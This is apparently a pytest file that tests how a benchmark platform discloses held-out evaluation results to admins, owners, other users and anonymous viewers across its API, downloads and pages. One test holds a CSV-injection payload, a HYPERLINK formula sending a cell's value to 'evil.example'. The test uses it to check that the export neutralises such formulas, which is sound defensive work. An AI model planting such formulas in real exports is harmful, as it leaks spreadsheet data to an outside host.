"""Disclosure levels of held-out results, per viewer, through the API, downloads and pages.

A held-out evaluation whose runs store a detailed message and log quoting the hidden data
(``SECRETBYTES``), an exit code, and reference counts (``event_ref_true`` 31,
``sample_ref_true`` 4242, a per-subject ``sample_ref_true`` 8484) that nobody but an admin
may learn at the default level.
"""

from __future__ import annotations

import csv
import io
import json
from dataclasses import dataclass

import pytest
from fastapi.testclient import TestClient
from sqlalchemy.orm import Session

from szbench.disclosure.decision import OUTCOME_TEXT
from szbench.models import (
    DatasetKind,
    Disclosure,
    Evaluation,
    EvaluationStatus,
    Phase,
    Role,
    RunOutcome,
    SubjectResult,
    User,
)
from tests.platform import factories as f

SECRET = "SECRETBYTES"
EXIT_CODE = 77


@dataclass
class World:
    admin: User
    owner: User
    other: User
    evaluation: Evaluation
    sample_evaluation: Evaluation
    phase: Phase
    algorithm_id: int


@pytest.fixture
def world(db_session: Session) -> World:
    s = db_session
    admin, owner, other = f.user(s, Role.ADMIN), f.user(s), f.user(s)
    # A phase that is over (closed: scores released exact), naming the held-out version.
    phase = f.phase(s, is_open=False)
    algorithm = f.algorithm(s, owner)
    version = f.version(s, algorithm, phase_id=phase.id)
    held = f.dataset_version(s, f.dataset(s, slug="held"), version="1")
    phase.dataset_versions = [held]
    evaluation = f.evaluation(s, version, held)
    f.result(s, evaluation, {"01": {"event_f1": 0.5, "event_sensitivity": 0.5}})
    subject = s.query(SubjectResult).filter_by(evaluation_id=evaluation.id).one()
    subject.counts = {"sample_ref_true": 8484, "event_ref_true": 62}
    f.run(
        s,
        evaluation,
        f.recording(s, held, subject="01"),
        event_ref_true=31,
        sample_ref_true=4242,
        event_tp=1,
    )
    f.run(
        s,
        evaluation,
        f.recording(s, held, subject="01"),
        outcome=RunOutcome.INVALID_OUTPUT,
        exit_code=EXIT_CODE,
        submitter_message=f"/output/x.tsv row 1: bad header {SECRET!r}",
        admin_log=f"stdout: {SECRET}",
    )
    sample = f.dataset_version(s, f.dataset(s, DatasetKind.PUBLIC_SAMPLE, slug="sample"), "1")
    sample_evaluation = f.evaluation(s, version, sample, recordings_total=1, recordings_done=1)
    f.run(
        s,
        sample_evaluation,
        f.recording(s, sample, subject="09"),
        outcome=RunOutcome.CRASHED,
        exit_code=EXIT_CODE,
        submitter_message=f"The algorithm exited with code {EXIT_CODE}.",
    )
    s.flush()
    return World(admin, owner, other, evaluation, sample_evaluation, phase, algorithm.id)


def _viewers(s: Session, w: World) -> dict[str, dict[str, str]]:
    return {
        "owner": f.headers(s, w.owner),
        "other": f.headers(s, w.other),
        "anonymous": {},
    }


def _paths(w: World) -> dict[str, str]:
    e = w.evaluation.id
    return {
        "subjects": f"/api/v1/evaluations/{e}/subjects",
        "subjects.csv": f"/api/v1/evaluations/{e}/subjects/download?format=csv",
        "recordings": f"/api/v1/evaluations/{e}/recordings",
        "recordings.csv": f"/api/v1/evaluations/{e}/recordings/download?format=csv",
        "recordings.json": f"/api/v1/evaluations/{e}/recordings/download?format=json",
    }


def _never_leaked(text: str) -> None:
    assert SECRET not in text
    assert "4242" not in text
    assert "8484" not in text
    assert f"code {EXIT_CODE}" not in text


def _set_level(client: TestClient, s: Session, w: World, level: str) -> None:
    r = client.patch(
        "/api/v1/datasets/held", json={"disclosure": level}, headers=f.headers(s, w.admin)
    )
    assert r.status_code == 200, r.text
    assert r.json()["disclosure"] == level


def test_aggregate_is_the_default_and_hides_everything_per_subject_and_recording(
    client: TestClient, db_session: Session, world: World
) -> None:
    assert client.get("/api/v1/datasets/held").json()["disclosure"] == "aggregate"
    e = world.evaluation.id
    for who, headers in _viewers(db_session, world).items():
        for name, path in _paths(world).items():
            r = client.get(path, headers=headers)
            assert r.status_code == (401 if who == "anonymous" else 403), (who, name)
            assert "aggregate" in r.json()["detail"]
        result = client.get(f"/api/v1/evaluations/{e}/result", headers=headers)
        assert result.status_code == 200
        assert result.json()["event_f1"] == 0.5  # the dataset-level figures stay
        detail = client.get(f"/api/v1/evaluations/{e}", headers=headers)
        assert detail.json()["progress"]["outcomes"] == {"ok": 1, "failed": 1}
        pages = [
            client.get(f"/evaluations/{e}", headers=headers),
            client.get(f"/algorithms/{world.algorithm_id}?evaluation={e}", headers=headers),
        ]
        for r in [*pages, result, detail]:
            assert r.status_code == 200
            _never_leaked(r.text)
            assert "invalid output" not in r.text
            assert "invalid_output" not in r.text
        assert "Per-recording results of evaluation" in pages[0].text
        assert "Per-subject results are not disclosed" in pages[1].text
        assert "Timelines are not disclosed" in pages[1].text


def test_admins_see_everything_at_every_level(
    client: TestClient, db_session: Session, world: World
) -> None:
    admin = f.headers(db_session, world.admin)
    paths = _paths(world)
    for level in ("aggregate", "subject", "recording"):
        _set_level(client, db_session, world, level)
        runs = client.get(paths["recordings"], headers=admin).json()["items"]
        assert {r["exit_code"] for r in runs} == {None, EXIT_CODE}
        assert any(SECRET in r["submitter_message"] for r in runs)
        assert any(SECRET in (r["admin_log"] or "") for r in runs)
        assert {r["sample_ref_true"] for r in runs} >= {4242}
        assert SECRET in client.get(paths["recordings.csv"], headers=admin).text
        assert "8484" in client.get(paths["subjects.csv"], headers=admin).text
        page = client.get(f"/evaluations/{world.evaluation.id}", headers=admin).text
        assert SECRET in page
        detail = client.get(f"/api/v1/evaluations/{world.evaluation.id}", headers=admin).json()
        assert detail["progress"]["outcomes"] == {"ok": 1, "invalid_output": 1}


def test_subject_level_discloses_per_subject_figures_only(
    client: TestClient, db_session: Session, world: World
) -> None:
    _set_level(client, db_session, world, "subject")
    paths = _paths(world)
    for who, headers in _viewers(db_session, world).items():
        subjects = client.get(paths["subjects"], headers=headers)
        assert subjects.status_code == 200, who
        assert subjects.json()["items"][0]["counts"]["sample_ref_true"] == 8484
        assert "8484" in client.get(paths["subjects.csv"], headers=headers).text
        for name in ("recordings", "recordings.csv", "recordings.json"):
            assert client.get(paths[name], headers=headers).status_code in (401, 403), name
        page = client.get(
            f"/algorithms/{world.algorithm_id}?evaluation={world.evaluation.id}", headers=headers
        ).text
        assert "Event F1 per subject" in page
        assert "Timelines are not disclosed" in page
        detail = client.get(f"/api/v1/evaluations/{world.evaluation.id}", headers=headers).json()
        assert detail["progress"]["outcomes"] == {"ok": 1, "failed": 1}


def _rows(name: str, text: str) -> list[dict[str, object]]:
    if name.endswith(".csv"):
        return list(csv.DictReader(io.StringIO(text)))
    data = json.loads(text)
    items = data["items"] if isinstance(data, dict) and "items" in data else data
    assert isinstance(items, list)
    return items


def test_recording_level_discloses_counts_and_outcomes_never_run_bytes(
    client: TestClient, db_session: Session, world: World
) -> None:
    _set_level(client, db_session, world, "recording")
    paths = _paths(world)
    for who, headers in _viewers(db_session, world).items():
        runs = client.get(paths["recordings"], headers=headers).json()["items"]
        assert {r["outcome"] for r in runs} == {"ok", "invalid_output"}, who
        assert {r["sample_ref_true"] for r in runs} == {4242, None}
        for r in runs:
            assert r["submitter_message"] == OUTCOME_TEXT[RunOutcome(r["outcome"])]
            assert r["exit_code"] is None
            assert r["admin_log"] is None
            assert r["provenance"]["wall_time_s"] is None
            assert r["provenance"]["peak_memory_bytes"] is None
        for name in ("recordings.csv", "recordings.json"):
            download = client.get(paths[name], headers=headers)
            assert download.status_code == 200
            assert "4242" in download.text
            assert SECRET not in download.text
            # The exit code's own field is empty (its digits may well occur in a name).
            rows = _rows(name, download.text)
            assert rows
            assert all(r["exit_code"] in (None, "") for r in rows)
        page = client.get(f"/evaluations/{world.evaluation.id}", headers=headers).text
        assert "invalid output" in page
        assert SECRET not in page


def test_a_phase_overrides_the_dataset_and_the_override_can_be_removed(
    client: TestClient, db_session: Session, world: World
) -> None:
    admin = f.headers(db_session, world.admin)
    url = f"/api/v1/phases/{world.phase.slug}"
    recordings = _paths(world)["recordings"]
    assert client.get(recordings).status_code == 401
    r = client.patch(url, json={"disclosure": "recording"}, headers=admin)
    assert r.status_code == 200, r.text
    assert r.json()["disclosure"] == "recording"
    assert client.get(recordings).status_code == 200
    # Changing something else leaves the override alone; an explicit null removes it.
    assert client.patch(url, json={"title": "Final"}, headers=admin).json()["disclosure"] == (
        "recording"
    )
    r = client.patch(url, json={"disclosure": None}, headers=admin)
    assert r.json()["disclosure"] is None
    assert client.get(recordings).status_code == 401


def test_public_sample_runs_keep_the_detail_for_their_owner_only(
    client: TestClient, db_session: Session, world: World
) -> None:
    url = f"/api/v1/evaluations/{world.sample_evaluation.id}/recordings"
    (mine,) = client.get(url, headers=f.headers(db_session, world.owner)).json()["items"]
    assert mine["submitter_message"] == f"The algorithm exited with code {EXIT_CODE}."
    assert mine["exit_code"] == EXIT_CODE
    assert mine["provenance"]["wall_time_s"] == 12.5
    (theirs,) = client.get(url, headers=f.headers(db_session, world.other)).json()["items"]
    assert theirs["outcome"] == "crashed"
    assert theirs["submitter_message"] == OUTCOME_TEXT[RunOutcome.CRASHED]
    assert theirs["exit_code"] is None


def test_the_admin_page_sets_the_level(
    client: TestClient, db_session: Session, world: World
) -> None:
    from tests.web.conftest import PASSWORD, post_form, sign_in

    admin = f.user(db_session, Role.ADMIN, email="disclosure-admin@example.org", password=PASSWORD)
    assert admin.id
    sign_in(client, "disclosure-admin@example.org")
    page = client.get("/admin/datasets").text
    assert 'action="/admin/datasets/held/disclosure"' in page
    assert 'action="/admin/datasets/sample/disclosure"' not in page  # always fully disclosed
    r = post_form(client, "/admin/datasets", "/admin/datasets/held/disclosure", {"disclosure": "x"})
    assert r.status_code == 400
    assert "disclosure: unknown level" in r.text
    r = post_form(
        client, "/admin/datasets", "/admin/datasets/held/disclosure", {"disclosure": "subject"}
    )
    assert r.status_code == 200
    db_session.expire_all()
    assert world.evaluation.dataset_version.dataset.disclosure == Disclosure.SUBJECT


def test_cached_answers_never_mix_admins_and_others(
    client: TestClient,
    db_session: Session,
    world: World,
) -> None:
    _set_level(client, db_session, world, "subject")
    e = world.evaluation.id
    admin = f.headers(db_session, world.admin)
    result = f"/api/v1/evaluations/{e}/result"
    subjects = f"/api/v1/evaluations/{e}/subjects"
    assert client.get(result, headers=admin).json()["provenance"]["wall_time_s"] == 25.0
    assert client.get(result).json()["provenance"]["wall_time_s"] is None
    assert client.get(result, headers=admin).json()["provenance"]["wall_time_s"] == 25.0
    assert client.get(subjects).status_code == 200
    # A lower level (a write through this app) is seen at once, cached answers or not.
    _set_level(client, db_session, world, "aggregate")
    assert client.get(subjects).status_code == 401
    assert client.get(subjects, headers=admin).status_code == 200
    assert client.get(subjects).status_code == 401


def test_leaderboards_show_no_run_time_or_memory_of_held_out_runs(
    client: TestClient, db_session: Session, world: World
) -> None:
    # Its runs failed, so the entry is listed apart (unranked=true), with the same provenance.
    # Admins see them, as on the evaluation (the view's run_resources).
    admin = f.headers(db_session, world.admin)
    for headers in ({}, f.headers(db_session, world.owner), admin):
        board = client.get("/api/v1/leaderboards/held?unranked=true", headers=headers).json()
        (entry,) = board["items"]
        assert entry["evaluation_id"] == world.evaluation.id
        shown = headers and headers["Authorization"] == admin["Authorization"]
        assert (entry["provenance"]["wall_time_s"] is not None) == bool(shown)
        assert (entry["provenance"]["peak_memory_bytes"] is not None) == bool(shown)
        # Host names are the platform's infrastructure: admins only (issue 28.3).
        assert entry["provenance"]["worker_hosts"] == (["worker-1"] if shown else [])


def test_csv_downloads_keep_formulas_as_text(
    client: TestClient, db_session: Session, world: World
) -> None:
    import csv
    import io

    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    for run in world.evaluation.runs:
        run.submitter_message = formula
    db_session.flush()
    url = f"/api/v1/evaluations/{world.evaluation.id}/recordings/download?format=csv"
    text = client.get(url, headers=f.headers(db_session, world.admin)).text
    messages = {row["submitter_message"] for row in csv.DictReader(io.StringIO(text))}
    assert messages == {"'" + formula}
    json_url = url.replace("format=csv", "format=json")
    rows = client.get(json_url, headers=f.headers(db_session, world.admin)).json()
    assert {row["submitter_message"] for row in rows} == {formula}  # JSON keeps it as is


def test_no_outcome_counts_while_an_evaluation_runs(
    client: TestClient, db_session: Session, world: World
) -> None:
    s = db_session
    running = f.evaluation(
        s, world.evaluation.algorithm_version, world.evaluation.dataset_version,
        status=EvaluationStatus.RUNNING, recordings_done=1,
    )  # fmt: skip
    recordings = world.evaluation.dataset_version.recordings
    f.run(s, running, recordings[0], outcome=RunOutcome.TIMEOUT)
    f.run(s, running, recordings[1], outcome=None)
    url = f"/api/v1/evaluations/{running.id}/progress"
    # Which run failed when would tell each run's outcome: nothing until the end.
    for headers in (f.headers(s, world.owner), {}):
        progress = client.get(url, headers=headers).json()
        # Held-out data: coarse progress (docs/security.md, timing), no run's finish counted
        # before the progress clock's tick.
        assert progress["detail"] == "coarse"
        assert progress["recordings_done"] == 0
        assert progress["outcomes"] == {}
    admin = client.get(url, headers=f.headers(s, world.admin)).json()
    assert admin["outcomes"] == {"timeout": 1}
    assert (admin["detail"], admin["recordings_done"]) == ("full", 1)


def test_the_admin_publishing_page_sets_a_phase_override(
    client: TestClient, db_session: Session, world: World
) -> None:
    from tests.web.conftest import PASSWORD, post_form, sign_in

    f.user(db_session, Role.ADMIN, email="phase-admin@example.org", password=PASSWORD)
    sign_in(client, "phase-admin@example.org")
    action = f"/admin/phases/{world.phase.slug}/disclosure"
    assert f'action="{action}"' in client.get("/admin/publishing").text
    assert post_form(client, "/admin/publishing", action, {"disclosure": "x"}).status_code == 400
    r = post_form(client, "/admin/publishing", action, {"disclosure": "recording"})
    assert r.status_code == 200
    db_session.expire_all()
    assert world.phase.disclosure == Disclosure.RECORDING
    client.cookies.clear()
    assert client.get(_paths(world)["recordings"]).status_code == 200  # anonymous
    sign_in(client, "phase-admin@example.org")
    post_form(client, "/admin/publishing", action, {"disclosure": ""})
    db_session.expire_all()
    assert world.phase.disclosure is None
